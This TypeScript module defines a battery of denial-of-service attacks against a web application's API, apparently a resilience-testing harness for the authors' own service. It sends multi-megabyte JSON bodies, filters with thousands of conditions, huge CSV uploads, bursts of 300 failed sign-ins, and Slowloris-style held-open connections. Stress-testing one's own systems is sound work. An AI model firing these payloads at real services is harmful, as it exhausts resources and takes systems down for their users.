import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'

export type Target = {
  address: string
  /** Access token of a member of the project. */
  token: string
  attackerLogin: string
  projectId: number
  timestamp: string
}

export type Attack = {
  name: string
  /** How many send at once. */
  parallel: number
  send: (sender: number, until: number) => Promise<unknown>
}

const SIGN_IN = '/services/auth'

/** What one caller can try against the others; each was seen to work on an earlier release. */
export function attacksOn({ address, token, attackerLogin, projectId, timestamp }: Target): Attack[] {
  const project = `/services/v1/wexaus/projects/${projectId}`
  const view = `${project}/dashboard`
  const post = (path: string, body: Uint8Array<ArrayBuffer> | object, method = 'POST') =>
    fetch(`${address}${path}`, {
      method,
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: body instanceof Uint8Array ? body : JSON.stringify(body),
    }).then((answer) => answer.arrayBuffer())
  const postFile = (path: string, filename: string, content: Uint8Array<ArrayBuffer>) => {
    const body = new FormData()
    body.append('meta-data', new Blob([JSON.stringify({ filename })], { type: 'application/json' }))
    body.append('file', new Blob([content]), filename)
    return fetch(`${address}${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}` },
      body,
    }).then((answer) => answer.arrayBuffer())
  }
  const widths = JSON.stringify({
    name: 'A',
    isShared: false,
    state: { prefilteredView: null, filter: null, search: '', sort: [], layout: { widths: keys(800_000) } },
  })
  const fewerWidths = widths.replace(JSON.stringify(keys(800_000)), JSON.stringify(keys(75_000)))
  const unknownKeys = JSON.stringify(keys(600_000))
  const emptyChanges = `{"timestamp":"${timestamp}","changes":[${'{},'.repeat(10_000_000)}{}]}`
  const faultyChanges = JSON.stringify({
    timestamp,
    changes: Array.from({ length: 50_000 }, () => ({
      entryId: 1,
      column: 'x'.repeat(300),
      value: 'x'.repeat(200),
    })),
  })
  // Encoded once for each attack.
  const encoded = new Map<string, Uint8Array<ArrayBuffer>>()
  const bytes = (text: string) => {
    const known = encoded.get(text) ?? new TextEncoder().encode(text)
    encoded.set(text, known)
    return known
  }
  const filterOf = (leaves: number, sender: number) => ({
    timestamp,
    filter: {
      any: Array.from({ length: leaves }, (_, at) => ({
        column: 'Texte 1',
        op: 'contains',
        value: `${sender} ${at} ${Math.random()}`,
      })),
    },
  })
  const leaf = (value: string) => ({ column: 'Texte 1', op: 'contains', value })
  const hiddenConditions = JSON.stringify({
    timestamp,
    filter: { all: [leaf('a')], any: Array.from({ length: 2200 }, (_, at) => leaf(`${at}`)) },
  })
  const heavyChanges = `{"timestamp":"${timestamp}","changes":[${'{"a":[1]},'.repeat(900_000)}{}]}`
  const fewEmptyChanges = `{"timestamp":"${timestamp}","changes":[${'{},'.repeat(30_000)}{}]}`
  const unknownForm = JSON.stringify(keys(3000))
  const unknownToken = JSON.stringify({ azureToken: '', ...keys(2900) })
  const statement = [
    'Date;Libellé;Contrepartie;Montant;Référence',
    ...Array.from(
      { length: 95_000 },
      (_, at) => `02/03/2026;VIR ${at};SOCIETE ${at % 5000};1${at % 9},00;R${at}`,
    ),
  ].join('\n')
  const names = Array.from({ length: 200 }, (_, at) => `${at} ${'A1 2B 3C4 '.repeat(7)}`)
  return [
    { name: '8 MB of widths', parallel: 4, send: () => post(`${view}/saved-views`, bytes(widths)) },
    { name: '1 MB of widths', parallel: 4, send: () => post(`${view}/saved-views`, bytes(fewerWidths)) },
    {
      name: '7 MB of unknown fields without an account',
      parallel: 4,
      send: () => post(SIGN_IN, bytes(unknownKeys)),
    },
    {
      name: '30 MB of empty changes',
      parallel: 4,
      send: () => post(`${view}/data`, bytes(emptyChanges), 'PATCH'),
    },
    {
      name: '90 KB of empty changes',
      parallel: 8,
      send: () => post(`${view}/data`, bytes(fewEmptyChanges), 'PATCH'),
    },
    {
      name: '9 MB of changes that are all wrong',
      parallel: 4,
      send: () => post(`${view}/data`, bytes(heavyChanges), 'PATCH'),
    },
    {
      name: '50 000 faulty changes',
      parallel: 4,
      send: () => post(`${view}/data`, bytes(faultyChanges), 'PATCH'),
    },
    {
      name: 'filters of 4 000 conditions',
      parallel: 12,
      send: (sender) => post(`${view}/result-sets`, filterOf(4000, sender)),
    },
    {
      name: 'filters of 200 conditions',
      parallel: 12,
      send: (sender) => post(`${view}/result-sets`, filterOf(200, sender)),
    },
    {
      name: 'filters of 2 200 conditions behind a second key',
      parallel: 8,
      send: () => post(`${view}/result-sets`, bytes(hiddenConditions)),
    },
    {
      name: '31 KB at the sign-in without an account',
      parallel: 12,
      send: () => post(SIGN_IN, bytes(unknownForm)),
    },
    { name: '31 KB in place of a token', parallel: 12, send: () => post(SIGN_IN, bytes(unknownToken)) },
    {
      name: 'matching 200 names of files',
      parallel: 8,
      send: () => post(`${project}/evidence/matches`, { names }),
    },
    {
      name: 'a bank statement of 95 000 lines',
      parallel: 4,
      send: () => postFile(`${project}/recoveries/proposals`, 'releve.csv', bytes(statement)),
    },
    {
      name: '300 wrong sign-ins at once',
      parallel: 300,
      // A burst each second.
      send: (sender) =>
        Promise.all([
          post(SIGN_IN, { login: `${sender}.${attackerLogin}`, plainPassword: 'wrong' }),
          pause(1000),
        ]),
    },
    {
      name: '200 unfinished bodies',
      parallel: 200,
      send: (_, until) => leaveUnfinished(address, token, view, until),
    },
    {
      name: 'ten readers that stop reading',
      parallel: 10,
      send: (_, until) => stopReading(address, token, view, until),
    },
  ]
}

function keys(count: number): Record<string, number> {
  return Object.fromEntries(Array.from({ length: count }, (_, at) => [`k${at}`, 0]))
}

/** A connection that stays open until the attack is over, or until the server has had enough of it. */
async function hold(address: string, request: string, until: number, reads: boolean): Promise<void> {
  const { hostname, port } = new URL(address)
  const socket = connect(Number(port), hostname)
  socket.on('error', () => undefined)
  if (reads) socket.resume()
  else socket.pause()
  socket.write(request)
  while (performance.now() < until && !socket.closed) await pause(100)
  socket.destroy()
}

const headersOf = (method: string, path: string, token: string) =>
  `${method} ${path} HTTP/1.1\r\nHost: quitus\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\n`

function leaveUnfinished(address: string, token: string, view: string, until: number): Promise<void> {
  const headers = `${headersOf('PATCH', `${view}/data`, token)}Content-Length: 30000000\r\n\r\n{"changes":[`
  return hold(address, headers, until, true)
}

function stopReading(address: string, token: string, view: string, until: number): Promise<void> {
  return hold(address, `${headersOf('GET', `${view}/data`, token)}\r\n`, until, false)
}
